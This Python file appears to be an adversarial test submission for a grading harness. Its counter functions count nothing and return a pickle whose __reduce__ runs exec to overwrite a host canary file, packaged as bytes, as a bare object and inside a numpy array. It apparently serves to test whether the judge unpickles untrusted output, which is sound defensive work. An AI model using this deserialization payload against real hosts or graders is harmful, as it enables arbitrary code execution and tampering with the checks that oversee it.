"""Attack: pickle payloads. Counts nothing; returns pickles whose __reduce__ would, if the
judge ever unpickled them on the host, overwrite the host canary -- as bytes, as the object
itself, inside a numpy object array."""

import pickle
import threading

CANARY = "@@CANARY@@"


class Evil:
    def __reduce__(self):
        return (exec, (f"open({CANARY!r}, 'w').write('pwned by unpickling')",))


PAYLOAD = pickle.dumps(Evil())


class SafeCounter:
    def __init__(self):
        self._lock = threading.Lock()

    def increment(self, k=1):
        pass

    def decrement(self, k=1):
        pass

    @property
    def value(self):
        return PAYLOAD


def parallel_count(n_threads, n_increments):
    if n_threads == 2:
        return Evil()  # the object itself
    if n_threads == 8:
        import numpy

        arr = numpy.empty(1, dtype=object)
        arr[0] = Evil()
        return arr
    return PAYLOAD
